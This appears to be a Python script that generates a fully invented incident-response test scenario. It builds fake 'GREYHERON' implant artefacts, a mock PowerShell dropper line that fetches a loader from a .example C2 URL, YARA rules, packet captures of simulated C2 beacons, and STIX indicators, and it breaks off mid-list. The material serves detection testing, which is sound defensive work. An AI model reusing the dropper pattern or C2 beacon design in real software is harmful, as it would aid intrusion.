#!/usr/bin/env python3
"""Generate a synthetic, entirely invented cyber-incident scenario for Parley.

    scripts/make_scenario.py OUTDIR [--seed N] [--size-mb M]

The implant family GREYHERON does not exist: every byte string, name, domain and address below is
made up.  Addresses come only from the documentation ranges (192.0.2.0/24, 198.51.100.0/24,
203.0.113.0/24, 2001:db8::/32) and domains only from `.example`.  No file contains executable code.

Writes, deterministically for a given seed (no wall-clock time anywhere in the output):

  OUTDIR/package/                 the accusing party's evidence package (Parley evidence manifest v1)
  OUTDIR/accused/infected/        the accused side's data with traces of the implant
  OUTDIR/accused/clean/           the same kind of data without any trace
  OUTDIR/accused/expected-*.json  the hits a correct reproduction of the package must find there

docs/scenario.md describes the scenario and the matching semantics.
"""

import argparse
import hashlib
import ipaddress
import json
import os
import random
import shutil
import struct
import sys
import time
import uuid

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

# ---------------------------------------------------------------------------------------------
# The invented family
# ---------------------------------------------------------------------------------------------

FAMILY = "GREYHERON"
INIT_MARK = b"GhrnLdr::Init/v2.3"                 # ASCII marker in the loader
MUTEX = "Global\\GrHeron-Mtx-7f3a9c"              # mutex name, stored UTF-16LE in the loader
STUB_HEX = bytes.fromhex("9C3EA7115E0DF2C46B88D1E3")   # "config decryption stub" byte sequence
CFG_HDR = b"[greyheron.cfg]"
USER_AGENT = "GreyHeronAgent/2.3"
STAGER = "Invoke-GhrnStage"
LOADER_NAME = "svch0st.dll"                       # misspelled svchost
C2_DOMAIN = "update.greyheron-cdn.example"
C2_SYNC_DOMAIN = "sync.greyheron-cdn.example"     # TLS SNI
C2_EDGE = "edge.greyheron-cdn.example"            # CNAME target
C2_ALIAS = "img.contoso-static.example"           # alias whose CNAME target is a C2 name
C2_PATH = "/cdn/v2/gh/update.bin"
C2_URL = "http://" + C2_DOMAIN + C2_PATH
C2_V4 = "203.0.113.66"                            # HTTP C2 (package)
C2_V4_NET = "203.0.113.64/27"
C2_BEACON_V4 = "203.0.113.77"                     # beacon C2 (package)
C2_V6 = "2001:db8:c2::66"
C2_V6_NET = "2001:db8:c2::/48"
BEACON_PORT = 47443
BEACON_MAGIC = b"GHRN"

TS = "2025-03-14T09:00:00.000Z"                   # every STIX timestamp
PCAP_T0 = 1741942800                              # 2025-03-14T09:00:00Z, start of the package capture
TLP_AMBER = "marking-definition--55d920b0-5e8b-4f79-9ee9-91f868d9b421"
TLP_EXT = "extension-definition--60a3c5c5-0d10-413e-aab3-9e08dde9e88d"


def wide(s):
    return s.encode("utf-16-le")


# YARA rules as data: (name, meta, [(id, kind, value, modifiers)], condition).  kind "text" or
# "hex"; modifiers a subset of ("ascii", "wide"); condition ("any",) ("all",) ("n", k) or
# ("filesize_lt_all", bytes).  The text of rules.yar is generated from this, and so are the
# expected hits (via match_rule below), so the two cannot drift apart.
RULES = [
    ("GreyHeron_Loader",
     [("description", "GREYHERON loader: init marker, mutex name or config decryption stub"),
      ("author", "CERT-Example (synthetic scenario)"), ("family", FAMILY), ("tlp", "TLP:AMBER"),
      ("date", "2025-03-14"), ("synthetic", True)],
     [("init", "text", INIT_MARK.decode(), ("ascii",)),
      ("mutex", "text", MUTEX, ("wide",)),
      ("stub", "hex", STUB_HEX, ())],
     ("any",)),
    ("GreyHeron_Config",
     [("description", "GREYHERON configuration file (small file with header and C2 domain)"),
      ("author", "CERT-Example (synthetic scenario)"), ("family", FAMILY), ("synthetic", True)],
     [("hdr", "text", CFG_HDR.decode(), ("ascii",)),
      ("c2", "text", C2_DOMAIN, ("ascii", "wide"))],
     ("filesize_lt_all", 64 * 1024)),
    ("GreyHeron_Dropper",
     [("description", "GREYHERON dropper script: two of stager, loader name, mutex prefix"),
      ("author", "CERT-Example (synthetic scenario)"), ("family", FAMILY), ("synthetic", True)],
     [("s1", "text", STAGER, ("ascii",)),
      ("s2", "text", LOADER_NAME, ("ascii", "wide")),
      ("s3", "text", "GrHeron-Mtx", ("ascii",))],
     ("n", 2)),
]
# The rule carried by the indicator with pattern_type "yara".
YARA_INDICATOR_RULE = (
    "GreyHeron_Beacon_Strings",
    [("description", "GREYHERON beacon user agent or C2 path"), ("family", FAMILY),
     ("synthetic", True)],
    [("ua", "text", USER_AGENT, ("ascii", "wide")),
     ("path", "text", "/cdn/v2/gh/", ("ascii",))],
    ("any",))


def yara_escape(s):
    return s.replace("\\", "\\\\").replace('"', '\\"')


def rule_text(rule):
    name, meta, strings, cond = rule
    out = ["rule %s" % name, "{", "    meta:"]
    for k, v in meta:
        out.append("        %s = %s" % (k, "true" if v is True else '"%s"' % yara_escape(v)))
    out.append("    strings:")
    for sid, kind, value, mods in strings:
        if kind == "hex":
            out.append("        $%s = { %s }" % (sid, " ".join("%02X" % b for b in value)))
        else:
            out.append('        $%s = "%s"%s' % (sid, yara_escape(value),
                                               "".join(" " + m for m in mods)))
    out.append("    condition:")
    if cond[0] == "any":
        out.append("        any of them")
    elif cond[0] == "all":
        out.append("        all of them")
    elif cond[0] == "n":
        out.append("        %d of them" % cond[1])
    elif cond[0] == "filesize_lt_all":
        out.append("        filesize < %dKB and all of them" % (cond[1] // 1024))
    out.append("}")
    return "\n".join(out) + "\n"


def string_forms(kind, value, mods):
    if kind == "hex":
        return [value]
    forms = []
    if "ascii" in mods or "wide" not in mods:
        forms.append(value.encode("latin-1"))
    if "wide" in mods:
        forms.append(wide(value))
    return forms


def match_rule(rule, data):
    """Lowest offset of any matched string if the rule's condition holds on data, else None."""
    _, _, strings, cond = rule
    firsts = []
    for sid, kind, value, mods in strings:
        offs = [o for o in (data.find(f) for f in string_forms(kind, value, mods)) if o >= 0]
        firsts.append(min(offs) if offs else None)
    hit = [o for o in firsts if o is not None]
    if cond[0] == "any":
        ok = len(hit) >= 1
    elif cond[0] == "all":
        ok = len(hit) == len(strings)
    elif cond[0] == "n":
        ok = len(hit) >= cond[1]
    else:
        ok = len(data) < cond[1] and len(hit) == len(strings)
    return min(hit) if ok else None


ALL_RULE_FORMS = sorted({f for r in RULES + [YARA_INDICATOR_RULE] for _, k, v, m in r[2]
                         for f in string_forms(k, v, m)})
MAX_FORM = max(len(f) for f in ALL_RULE_FORMS)

# ---------------------------------------------------------------------------------------------
# Deterministic bytes
# ---------------------------------------------------------------------------------------------


class Stream:
    """AES-CTR keystream keyed by (seed, label): fast, deterministic pseudo-random bytes."""

    def __init__(self, seed, label):
        key = hashlib.sha256(("parley-scenario/%d/%s" % (seed, label)).encode()).digest()
        self.enc = Cipher(algorithms.AES(key), modes.CTR(b"\0" * 16)).encryptor()

    def read(self, n):
        return self.enc.update(bytes(n))


def scrub(buf, tail=b""):
    """Make sure no rule string occurs in tail+buf (tail: the end of what was already written,
    already checked); flips a byte of buf where one does.  Returns the (possibly patched) buf."""
    patched = None
    while True:
        hay = tail + (patched if patched is not None else buf)
        found = False
        for f in ALL_RULE_FORMS:
            i = hay.find(f)
            if i >= 0:
                if patched is None:
                    patched = bytearray(buf)
                j = max(i + len(f) - 1 - len(tail), 0)    # a byte of the match inside buf
                patched[j] ^= 0x5A
                found = True
        if not found:
            return bytes(patched) if patched is not None else buf


# ---------------------------------------------------------------------------------------------
# Files
# ---------------------------------------------------------------------------------------------


def make_loader(seed):
    """A fake PE-looking blob (no code, just bytes) with the markers at fixed offsets."""
    size = 48 * 1024
    buf = bytearray(scrub(Stream(seed, "loader").read(size)))
    hdr = bytearray(0x80)
    hdr[0:2] = b"MZ"
    struct.pack_into("<I", hdr, 0x3C, 0x80)
    hdr[0x40:0x40 + 48] = b"Synthetic GREYHERON test artefact. Not a program".ljust(48, b".")
    buf[0:0x80] = hdr
    buf[0x80:0x84] = b"PE\0\0"
    put = [(4096, INIT_MARK), (8192, STUB_HEX), (12288, wide(MUTEX)),
           (16384, C2_DOMAIN.encode() + b"\0"), (16448, USER_AGENT.encode() + b"\0"),
           (16512, C2_PATH.encode() + b"\0"), (20480, wide(LOADER_NAME) + b"\0\0")]
    for off, b in put:
        buf[off:off + len(b)] = b
    return bytes(buf)


def make_config(beacon_id, c2_v4):
    return ("%s\r\n; synthetic GREYHERON configuration (invented for tests)\r\n"
            "id=%s\r\nc2=%s\r\nc2_fallback=%s\r\npath=%s\r\nbeacon_port=%d\r\n"
            "interval=60\r\njitter=15\r\nmutex=%s\r\n" % (
                CFG_HDR.decode(), beacon_id, C2_DOMAIN, c2_v4, C2_PATH, BEACON_PORT, MUTEX)
            ).encode()


SCRIPT = ("# Synthetic GREYHERON dropper script, invented for Parley's tests. It does nothing:\r\n"
          "# the cmdlet below does not exist.\r\n"
          "$dst = Join-Path $env:ProgramData 'Microsoft\\Crypto\\%s'\r\n"
          "%s -Source 'http://%s%s' -Destination $dst -Mutex '%s'\r\n"
          "Start-Sleep -Seconds 60\r\n" % (LOADER_NAME, STAGER, C2_DOMAIN, C2_PATH, MUTEX)
          ).encode()

WORDS = ("the quarterly report shows backup completed service restarted user logged in "
         "printer queue cleared invoice approved meeting moved to thursday patch applied "
         "disk usage nominal certificate renewed mailbox quota warning sync finished").split()


def text_blob(rng, lines):
    out = []
    for i in range(lines):
        out.append("2025-03-%02d %02d:%02d:%02d INFO %s" % (
            1 + i % 28, rng.randrange(24), rng.randrange(60), rng.randrange(60),
            " ".join(rng.choice(WORDS) for _ in range(rng.randrange(4, 12)))))
    return scrub(("\r\n".join(out) + "\r\n").encode())


def write_file(root, rel, data):
    p = os.path.join(root, *rel.split("/"))
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)


def write_bulk(root, rel, seed, label, size):
    """Benign pseudo-random bytes, checked chunk by chunk to contain no rule string."""
    p = os.path.join(root, *rel.split("/"))
    os.makedirs(os.path.dirname(p), exist_ok=True)
    st = Stream(seed, label)
    tail = b""
    with open(p, "wb") as f:
        left = size
        while left:
            n = min(left, 8 << 20)
            chunk = scrub(st.read(n), tail)
            f.write(chunk)
            tail = (tail + chunk)[-(MAX_FORM - 1):]
            left -= n


BULK_DIRS = ["Windows/System32", "Windows/SysWOW64", "Program Files/Contoso Office/bin",
             "Program Files/Fabrikam Backup", "ProgramData/Fabrikam/cache",
             "Users/alice/Documents", "Users/alice/Pictures", "Users/bob/Videos",
             "Users/bob/AppData/Local/Packages/cache"]
BULK_EXT = {"Windows/System32": ".dll", "Windows/SysWOW64": ".dll",
            "Program Files/Contoso Office/bin": ".dll", "Program Files/Fabrikam Backup": ".dat",
            "ProgramData/Fabrikam/cache": ".bin", "Users/alice/Documents": ".docx",
            "Users/alice/Pictures": ".jpg", "Users/bob/Videos": ".mp4",
            "Users/bob/AppData/Local/Packages/cache": ".cache"}


def write_benign_tree(root, seed, label, size_mb):
    """Benign bulk of about size_mb MiB plus small text files.  Returns {rel: bytes} of the small
    files (the bulk is scrubbed, so it can hold no rule hit)."""
    rng = random.Random("%d/%s/layout" % (seed, label))
    small = {}
    for d, names in [("Windows/System32/drivers/etc", ["hosts"]),
                     ("Windows/Logs", ["setup.log", "update.log", "cbs.log"]),
                     ("Users/alice/Documents", ["notes.txt", "todo.txt"]),
                     ("ProgramData/Fabrikam", ["backup.ini"])]:
        for n in names:
            small[d + "/" + n] = text_blob(rng, rng.randrange(20, 400))
    # A legitimate svchost.dll look-alike name (correct spelling): a near miss for name indicators.
    small["Windows/System32/svchost.dll.mui"] = scrub(Stream(seed, label + "/mui").read(9216))
    for rel, data in small.items():
        write_file(root, rel, data)
    total = size_mb << 20
    cap = max(64 << 10, min(64 << 20, total // 6))
    used, i = 0, 0
    while used < total:
        d = BULK_DIRS[i % len(BULK_DIRS)]
        size = min(total - used, int(2 ** rng.uniform(12, max(12.5, cap.bit_length() - 1))))
        size = max(size, 1)
        rel = "%s/%s%04d%s" % (d, rng.choice(["k", "mf", "win", "svc", "img", "doc", "data"]),
                               i, BULK_EXT[d])
        write_bulk(root, rel, seed, label + "/" + rel, size)
        used += size
        i += 1
    return small, i


# ---------------------------------------------------------------------------------------------
# Packets
# ---------------------------------------------------------------------------------------------


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


MAC_GW = bytes.fromhex("02005e000001")


def mac_for(ip):
    return b"\x02\x00" + hashlib.sha256(ip.encode()).digest()[:4]


class Pcap:
    def __init__(self, t0):
        self.t = t0 * 1_000_000
        self.frames = []      # bytes of each frame
        self.meta = []        # what each frame carries, for the expected hits
        self.ipid = 0x1000

    def tick(self, us):
        self.t += us

    def emit(self, src, dst, proto, sport, dport, l4payload, meta, tcp=None):
        v6 = ":" in src
        s, d = ipaddress.ip_address(src).packed, ipaddress.ip_address(dst).packed
        pnum = 6 if proto == "tcp" else 17
        if proto == "udp":
            ln = 8 + len(l4payload)
            hdr = struct.pack("!HHHH", sport, dport, ln, 0)
        else:
            seq, ack, flags, opts = tcp
            off = (20 + len(opts)) // 4
            hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, off << 4, flags, 64240, 0, 0) + opts
            ln = len(hdr) + len(l4payload)
        seg = hdr + l4payload
        if v6:
            pseudo = s + d + struct.pack("!IxxxB", ln, pnum)
        else:
            pseudo = s + d + struct.pack("!xBH", pnum, ln)
        c = csum(pseudo + seg)
        if proto == "udp" and c == 0:
            c = 0xFFFF
        pos = 6 if proto == "udp" else 16
        seg = seg[:pos] + struct.pack("!H", c) + seg[pos + 2:]
        if v6:
            ip = struct.pack("!IHBB", 0x60000000, len(seg), pnum, 64) + s + d
            et = 0x86DD
        else:
            self.ipid = (self.ipid + 1) & 0xFFFF
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), self.ipid, 0x4000, 64, pnum,
                             0, s, d)
            ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
            et = 0x0800
        frame = mac_for(dst) + mac_for(src) + struct.pack("!H", et) + ip + seg
        self.frames.append((self.t, frame))
        m = {"src": src, "dst": dst, "sport": sport, "dport": dport, "v": 6 if v6 else 4,
             "protos": {"ipv6" if v6 else "ipv4", proto}, "qnames": [], "cnames": [],
             "a": [], "aaaa": [], "host": None, "uri": None, "sni": None, "implant": False}
        m.update(meta)
        self.meta.append(m)
        self.tick(350)

    def bytes(self):
        out = [struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)]
        for t, fr in self.frames:
            out.append(struct.pack("<IIII", t // 1_000_000, t % 1_000_000, len(fr), len(fr)) + fr)
        return b"".join(out)


def dns_name(name, table=None, base=0, out_len=0):
    """Encode name; with table (suffix -> offset) use and record compression pointers."""
    labels = name.split(".")
    out = b""
    for i in range(len(labels)):
        suffix = ".".join(labels[i:])
        if table is not None and suffix in table:
            return out + struct.pack("!H", 0xC000 | table[suffix])
        if table is not None:
            table[suffix] = out_len + len(out)
        lab = labels[i].encode()
        out += bytes([len(lab)]) + lab
    return out + b"\0"


def dns_message(qid, qname, qtype, answers=None):
    """answers: list of (name, type, value) or None for a query.  Compressed response."""
    resp = answers is not None
    flags = 0x8180 if resp else 0x0100
    msg = bytearray(struct.pack("!HHHHHH", qid, flags, 1, len(answers or []), 0, 0))
    table = {} if resp else None
    msg += dns_name(qname, table, out_len=len(msg)) + struct.pack("!HH", qtype, 1)
    for name, typ, value in answers or []:
        msg += dns_name(name, table, out_len=len(msg))
        msg += struct.pack("!HHI", typ, 1, 300)
        if typ == 5:
            rd = dns_name(value, table, out_len=len(msg) + 2)
        elif typ == 1:
            rd = ipaddress.IPv4Address(value).packed
        else:
            rd = ipaddress.IPv6Address(value).packed
        msg += struct.pack("!H", len(rd)) + rd
    return bytes(msg)


class Session:
    def __init__(self, pc, rng):
        self.pc, self.rng = pc, rng

    def dns(self, client, resolver, qname, qtype, chain, implant):
        """chain: list of (name, type, value) answers."""
        sport = self.rng.randrange(49152, 65535)
        qid = self.rng.randrange(65536)
        meta = {"protos": {"ipv4", "udp", "dns"}, "qnames": [qname], "implant": implant}
        self.pc.emit(client, resolver, "udp", sport, 53, dns_message(qid, qname, qtype), meta)
        self.pc.tick(self.rng.randrange(2000, 30000))
        meta = dict(meta, cnames=[v for n, t, v in chain if t == 5],
                    a=[v for n, t, v in chain if t == 1], aaaa=[v for n, t, v in chain if t == 28])
        self.pc.emit(resolver, client, "udp", 53, sport, dns_message(qid, qname, qtype, chain), meta)

    def tcp(self, client, server, dport, exchanges, app, cmeta, implant, close=True):
        """exchanges: list of (from_client: bool, payload)."""
        pc, rng = self.pc, self.rng
        v = "ipv6" if ":" in client else "ipv4"
        base = {"protos": {v, "tcp"}, "implant": implant}
        sport = rng.randrange(49152, 65535)
        cs, ss = rng.randrange(1 << 32), rng.randrange(1 << 32)
        mss = struct.pack("!BBH", 2, 4, 1460 if v == "ipv4" else 1440)
        rtt = rng.randrange(8000, 60000)
        C, S = (client, server, sport, dport), (server, client, dport, sport)
        pc.emit(*C[:2], "tcp", *C[2:], b"", base, (cs, 0, 0x02, mss))
        pc.tick(rtt)
        pc.emit(*S[:2], "tcp", *S[2:], b"", base, (ss, cs + 1, 0x12, mss))
        pc.tick(200)
        cs, ss = cs + 1, ss + 1
        pc.emit(*C[:2], "tcp", *C[2:], b"", base, (cs, ss, 0x10, b""))
        for from_client, payload in exchanges:
            pc.tick(rng.randrange(500, 5000))
            meta = dict(base, protos=base["protos"] | ({app} if app else set()))
            if from_client:
                meta.update(cmeta)
                pc.emit(*C[:2], "tcp", *C[2:], payload, meta, (cs, ss, 0x18, b""))
                cs = (cs + len(payload)) & 0xFFFFFFFF
                pc.tick(rtt)
                pc.emit(*S[:2], "tcp", *S[2:], b"", base, (ss, cs, 0x10, b""))
            else:
                pc.emit(*S[:2], "tcp", *S[2:], payload, meta, (ss, cs, 0x18, b""))
                ss = (ss + len(payload)) & 0xFFFFFFFF
                pc.tick(200)
                pc.emit(*C[:2], "tcp", *C[2:], b"", base, (cs, ss, 0x10, b""))
        if close:
            pc.tick(rng.randrange(1000, 20000))
            pc.emit(*C[:2], "tcp", *C[2:], b"", base, (cs, ss, 0x11, b""))
            pc.tick(rtt)
            pc.emit(*S[:2], "tcp", *S[2:], b"", base, (ss, cs + 1, 0x11, b""))
            pc.tick(200)
            pc.emit(*C[:2], "tcp", *C[2:], b"", base, (cs + 1, ss + 1, 0x10, b""))

    def http(self, client, server, host, path, ua, body, implant):
        req = ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n"
               "Connection: close\r\n\r\n" % (path, host, ua)).encode()
        resp = ("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
                "Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body)).encode() + body
        self.tcp(client, server, 80, [(True, req), (False, resp)], "http",
                 {"host": host, "uri": path}, implant)

    def tls(self, client, server, sni, implant):
        self.tcp(client, server, 443, [(True, client_hello(self.rng, sni))], "tls", {"sni": sni},
                 implant, close=False)
        # The server goes silent after the ClientHello (the scenario only needs the SNI); the
        # client resets the connection after a while.
        pass

    def beacon(self, client, server, seq, implant):
        payload = BEACON_MAGIC + struct.pack("!I", seq) + self.rng.randbytes(24)
        reply = BEACON_MAGIC + b"\0\0\0\x01" + self.rng.randbytes(8)
        self.tcp(client, server, BEACON_PORT, [(True, payload), (False, reply)], None, {}, implant)


def client_hello(rng, sni):
    def ext(t, body):
        return struct.pack("!HH", t, len(body)) + body
    host = sni.encode()
    sni_ext = ext(0, struct.pack("!HBH", len(host) + 3, 0, len(host)) + host)
    groups = ext(10, struct.pack("!H", 6) + struct.pack("!HHH", 0x001D, 0x0017, 0x0018))
    points = ext(11, b"\x01\x00")
    sigalgs = [0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601]
    sig = ext(13, struct.pack("!H", 2 * len(sigalgs)) + struct.pack("!%dH" % len(sigalgs), *sigalgs))
    alpn_list = b"\x02h2\x08http/1.1"
    alpn = ext(16, struct.pack("!H", len(alpn_list)) + alpn_list)
    ems = ext(23, b"")
    versions = ext(43, b"\x04\x03\x04\x03\x03")
    psk = ext(45, b"\x01\x01")
    ks = rng.randbytes(32)
    keyshare = ext(51, struct.pack("!HHH", 36, 0x001D, 32) + ks)
    exts = sni_ext + ems + groups + points + sig + alpn + versions + psk + keyshare
    suites = [0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F, 0xC02C, 0xC030, 0xCCA9, 0xCCA8]
    body = (b"\x03\x03" + rng.randbytes(32) + b"\x20" + rng.randbytes(32) +
            struct.pack("!H", 2 * len(suites)) + struct.pack("!%dH" % len(suites), *suites) +
            b"\x01\x00" + struct.pack("!H", len(exts)) + exts)
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


RESOLVER = "192.0.2.53"
BENIGN_WEB = [("www.intranet.example", "198.51.100.20", "2001:db8:1:20::20"),
              ("wiki.intranet.example", "198.51.100.21", "2001:db8:1:20::21"),
              ("mail.partner.example", "198.51.100.30", "2001:db8:2::30"),
              ("updates.vendor.example", "203.0.113.140", "2001:db8:3::140"),
              ("cdn.news.example", "203.0.113.10", "2001:db8:4::10")]


def benign_session(s, client, client6):
    rng = s.rng
    name, v4, v6 = rng.choice(BENIGN_WEB)
    kind = rng.randrange(5)
    if kind == 0:
        s.dns(client, RESOLVER, name, 1, [(name, 1, v4)], False)
    elif kind == 1:
        alias = "edge." + name.split(".", 1)[1]
        s.dns(client, RESOLVER, name, 28, [(name, 5, alias), (alias, 28, v6)], False)
    elif kind == 2:
        s.http(client, v4, name, "/index.html", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
               rng.randbytes(rng.randrange(40, 600)).hex().encode(), False)
    elif kind == 3:
        s.tls(client, v4, name, False)
    else:
        # a near miss: something on the beacon port, but to a host outside the C2 range
        s.tcp(client, "198.51.100.40", BEACON_PORT, [(True, b"HELO" + rng.randbytes(12)),
                                                     (False, b"OK" + rng.randbytes(6))],
              None, {}, False)


def implant_sessions(s, client, client6, c2_v4, beacon_v4, c2_v6, beacons):
    out = []
    out.append(lambda: s.dns(client, RESOLVER, C2_DOMAIN, 1,
                             [(C2_DOMAIN, 5, C2_EDGE), (C2_EDGE, 1, c2_v4)], True))
    out.append(lambda: s.dns(client, RESOLVER, C2_SYNC_DOMAIN, 28,
                             [(C2_SYNC_DOMAIN, 5, C2_EDGE), (C2_EDGE, 28, c2_v6)], True))
    # an innocuous-looking alias whose CNAME target is a C2 name (matches through the CNAME)
    out.append(lambda: s.dns(client, RESOLVER, C2_ALIAS, 1,
                             [(C2_ALIAS, 5, C2_SYNC_DOMAIN), (C2_SYNC_DOMAIN, 1, c2_v4)], True))
    out.append(lambda: s.http(client, c2_v4, C2_DOMAIN, C2_PATH, USER_AGENT,
                              s.rng.randbytes(64), True))
    out.append(lambda: s.tls(client6, c2_v6, C2_SYNC_DOMAIN, True))
    for i in range(beacons):
        out.append(lambda i=i: s.beacon(client, beacon_v4, i + 1, True))
    return out


def package_capture(seed):
    pc = Pcap(PCAP_T0)
    s = Session(pc, random.Random("%d/pcap/package" % seed))
    client, client6 = "192.0.2.10", "2001:db8:1::10"
    imp = implant_sessions(s, client, client6, C2_V4, C2_BEACON_V4, C2_V6, 2)
    # implant: DNS A, DNS AAAA, DNS via an alias, HTTP, TLS (v6), beacons; benign traffic around it
    s.dns(client, RESOLVER, "www.intranet.example", 1, [("www.intranet.example", 1, "198.51.100.20")], False)
    imp[0]()
    imp[1]()
    imp[2]()
    imp[3]()
    s.http(client, "198.51.100.20", "www.intranet.example", "/index.html",
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", b"<html>intranet</html>\n", False)
    imp[4]()
    s.tls(client, "198.51.100.30", "mail.partner.example", False)
    s.dns(client, RESOLVER, "mail.partner.example", 28,
          [("mail.partner.example", 5, "edge.partner.example"), ("edge.partner.example", 28, "2001:db8:2::30")], False)
    for f in imp[5:]:
        f()
        pc.tick(60_000_000)
    return pc


def accused_capture(seed, infected, n_benign):
    pc = Pcap(PCAP_T0 + 86400 * 3)
    rng = random.Random("%d/pcap/%s" % (seed, "infected" if infected else "clean"))
    s = Session(pc, rng)
    client, client6 = "198.51.100.77", "2001:db8:1:5::77"
    plan = [None] * n_benign
    if infected:
        imp = implant_sessions(s, client, client6, "203.0.113.71", "203.0.113.78",
                               "2001:db8:c2:1::71", 4)
        # keep the implant's own order (resolution before use), interleaved with benign traffic
        slots = sorted(rng.sample(range(n_benign + len(imp)), len(imp)))
        plan = [None] * (n_benign + len(imp))
        for slot, f in zip(slots, imp):
            plan[slot] = f
    for f in plan:
        if f is None:
            benign_session(s, client, client6)
        else:
            f()
        pc.tick(rng.randrange(100_000, 5_000_000))
    return pc


# ---------------------------------------------------------------------------------------------
# STIX
# ---------------------------------------------------------------------------------------------


def in_net(addr, net):
    try:
        return ipaddress.ip_address(addr) in ipaddress.ip_network(net)
    except ValueError:
        return False


def pkt_addrs(p, v):
    own = [p["src"], p["dst"]] if p["v"] == v else []
    return own + (p["a"] if v == 4 else p["aaaa"])


def pkt_domains(p):
    return p["qnames"] + p["cnames"] + [x for x in (p["host"], p["sni"]) if x]


def build_indicators(seed, loader, config, script):
    ns = uuid.uuid5(uuid.NAMESPACE_URL, "https://parley.example/scenario/%d" % seed)

    def sid(t, name):
        return "%s--%s" % (t, uuid.uuid5(ns, t + "/" + name))

    h = {k: hashlib.new(k, loader).hexdigest() for k in ("md5", "sha1", "sha256", "sha512")}
    cfg256, scr256 = hashlib.sha256(config).hexdigest(), hashlib.sha256(script).hexdigest()
    yrule = rule_text(YARA_INDICATOR_RULE)
    # (key, name, pattern, pattern_type, kind, predicate) -- kind: file, net, yara, unsupported
    spec = [
        ("loader-sha256", "GREYHERON loader (SHA-256)",
         "[file:hashes.'SHA-256' = '%s']" % h["sha256"], "stix", "file",
         lambda f: f["sha256"] == h["sha256"]),
        ("loader-md5", "GREYHERON loader (MD5)", "[file:hashes.MD5 = '%s']" % h["md5"], "stix",
         "file", lambda f: f["md5"] == h["md5"]),
        ("loader-sha1", "GREYHERON loader (SHA-1)", "[file:hashes.'SHA-1' = '%s']" % h["sha1"],
         "stix", "file", lambda f: f["sha1"] == h["sha1"]),
        ("loader-sha512", "GREYHERON loader (SHA-512)",
         "[file:hashes.'SHA-512' = '%s']" % h["sha512"], "stix", "file",
         lambda f: f["sha512"] == h["sha512"]),
        ("loader-name", "GREYHERON loader file name", "[file:name = '%s']" % LOADER_NAME, "stix",
         "file", lambda f: f["name"] == LOADER_NAME),
        ("loader-size-name", "GREYHERON loader name and size",
         "[file:size > 32768 AND file:name = '%s']" % LOADER_NAME, "stix", "file",
         lambda f: f["size"] > 32768 and f["name"] == LOADER_NAME),
        ("config-or-script", "GREYHERON configuration or dropper script (SHA-256)",
         "[file:hashes.'SHA-256' = '%s' OR file:hashes.'SHA-256' = '%s']" % (cfg256, scr256),
         "stix", "file", lambda f: f["sha256"] in (cfg256, scr256)),
        ("c2-ipv4", "GREYHERON HTTP C2 address", "[ipv4-addr:value = '%s']" % C2_V4, "stix", "net",
         lambda p: C2_V4 in pkt_addrs(p, 4)),
        ("c2-ipv4-net", "GREYHERON C2 address range",
         "[ipv4-addr:value ISSUBSET '%s']" % C2_V4_NET, "stix", "net",
         lambda p: any(in_net(a, C2_V4_NET) for a in pkt_addrs(p, 4))),
        ("c2-ipv6-net", "GREYHERON C2 IPv6 range",
         "[ipv6-addr:value ISSUBSET '%s']" % C2_V6_NET, "stix", "net",
         lambda p: any(in_net(a, C2_V6_NET) for a in pkt_addrs(p, 6))),
        ("c2-domain", "GREYHERON C2 domains",
         "[domain-name:value = '%s' OR domain-name:value = '%s']" % (C2_DOMAIN, C2_SYNC_DOMAIN),
         "stix", "net", lambda p: any(d in (C2_DOMAIN, C2_SYNC_DOMAIN) for d in pkt_domains(p))),
        ("c2-url", "GREYHERON payload URL", "[url:value = '%s']" % C2_URL, "stix", "net",
         lambda p: p["uri"] is not None and "http://%s%s" % (p["host"], p["uri"]) == C2_URL),
        ("c2-beacon", "GREYHERON beacon traffic",
         "[network-traffic:dst_ref.value ISSUBSET '%s' AND network-traffic:dst_port = %d AND "
         "network-traffic:protocols[*] = 'tcp']" % (C2_V4_NET, BEACON_PORT), "stix", "net",
         lambda p: in_net(p["dst"], C2_V4_NET) and p["dport"] == BEACON_PORT and "tcp" in p["protos"]),
        ("yara-beacon-strings", "GREYHERON beacon strings (YARA)", yrule, "yara", "yara", None),
        ("registry-run-key", "GREYHERON persistence (Run key)",
         "[windows-registry-key:key = 'HKEY_CURRENT_USER\\\\Software\\\\Microsoft\\\\Windows\\\\"
         "CurrentVersion\\\\Run' AND windows-registry-key:values[*].name = 'GhrnUpdate']",
         "stix", "unsupported", None),
        ("mutex", "GREYHERON mutex", "[mutex:name = '%s']" % MUTEX.replace("\\", "\\\\"), "stix",
         "unsupported", None),
        ("resolve-then-beacon", "GREYHERON resolution followed by a beacon",
         "([domain-name:value = '%s'] FOLLOWEDBY [network-traffic:dst_port = %d]) WITHIN 300 SECONDS"
         % (C2_DOMAIN, BEACON_PORT), "stix", "unsupported", None),
    ]
    ident = sid("identity", "cert")
    mal = sid("malware", FAMILY)
    common = {"spec_version": "2.1", "created": TS, "modified": TS, "created_by_ref": ident,
              "object_marking_refs": [TLP_AMBER]}
    objs = [
        {"type": "marking-definition", "spec_version": "2.1", "id": TLP_AMBER,
         "created": "2022-10-01T00:00:00.000Z", "name": "TLP:AMBER",
         "extensions": {TLP_EXT: {"extension_type": "property-extension", "tlp_2_0": "amber"}}},
        {"type": "identity", "spec_version": "2.1", "id": ident, "created": TS, "modified": TS,
         "name": "CERT-Example (synthetic)", "identity_class": "organization",
